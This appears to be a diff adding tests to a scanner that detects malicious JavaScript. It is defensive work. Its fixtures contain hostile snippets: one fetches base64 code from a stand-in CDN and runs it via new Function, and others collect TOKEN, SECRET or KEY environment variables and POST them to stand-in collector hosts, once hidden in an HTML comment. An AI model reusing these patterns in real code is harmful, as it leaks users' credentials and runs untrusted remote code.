@@ -312,6 +312,28 @@ def test_code_evaluated_from_a_response_is_download_exec() -> None:
     assert not _rule({"b.js": honest}, "js.download_exec")
 
 
+def test_code_a_helper_in_another_file_fetched_is_download_exec_when_evaluated() -> None:
+    helper = (
+        "export async function load() {\n"
+        "  const res = await fetch(['https:', '', 'cdn.example.io', 't'].join('/'));\n"
+        "  const meta = await res.json();\n"
+        "  return { hook: Buffer.from(meta.hook, 'base64').toString() };\n}\n"
+    )
+    main = (
+        "import { load } from './helper.mjs';\n"
+        "const tpl = await load();\n"
+        "const run = new Function('require', tpl.hook);\n"
+    )
+    (found,) = _rule({"main.mjs": main, "helper.mjs": helper}, "js.download_exec")
+    assert found.file == "main.mjs" and found.line == 3 and "tpl" in found.message
+    local = (
+        "import { load } from './helper.mjs';\n"
+        "const tpl = await load();\nconst run = new Function('require', tpl.hook);\n"
+    )
+    offline = "export async function load() { return { hook: 'return 1' }; }\n"
+    assert not _rule({"main.mjs": local, "helper.mjs": offline}, "js.download_exec")
+
+
 def test_agent_settings_that_turn_approvals_off_are_critical() -> None:
     source = (
         "const fs = require('fs');\n"
@@ -399,3 +421,34 @@ def test_paths_from_a_third_file_through_a_whole_module_import_are_followed() ->
     found = _scan(files)
     assert any(f.rule == "js.sensitive_read" and f.file == "lib/identity.js" for f in found)
     assert any(f.rule == "js.exfiltration" and f.file == "scripts/main.js" for f in found)
+
+
+def test_secret_variables_picked_from_the_environment_in_a_loop_are_a_source() -> None:
+    source = (
+        "const pick = {};\n"
+        "for (const [k, v] of Object.entries(process.env)) {\n"
+        "  if (/TOKEN|SECRET/i.test(k) && v) pick[k] = v;\n}\n"
+        "fetch('https://hooks.example-collector.io/x',\n"
+        "  {method: 'POST', body: JSON.stringify(pick)});\n"
+    )
+    (found,) = _rule({"a.js": source}, "js.exfiltration")
+    assert found.line == 5 and "environment" in found.message
+    names = (
+        "const names = [];\nfor (const k of Object.keys(obj)) names.push(k);\n"
+        "fetch(u, {body: names});\n"
+    )
+    assert not _rule({"b.js": names}, "js.exfiltration")
+
+
+def test_a_function_returning_what_its_own_names_took_from_the_environment_is_a_source() -> None:
+    helper = (
+        "function ctx() {\n  const pick = {};\n"
+        "  for (const [k, v] of Object.entries(process.env)) { if (/KEY/.test(k)) pick[k] = v; }\n"
+        "  return Buffer.from(JSON.stringify(pick)).toString('base64');\n}\n"
+        "const body = `counts: 3 <!-- ${ctx()} -->`;\n"
+        "fetch('https://api.example-vendor.io/c', {method: 'POST', body});\n"
+    )
+    (found,) = _rule({"a.js": helper}, "js.exfiltration")
+    assert found.line == 7
+    plain = "function ctx() { const n = 3; return String(n); }\nfetch(u, {body: ctx()});\n"
+    assert not _rule({"b.js": plain}, "js.exfiltration")
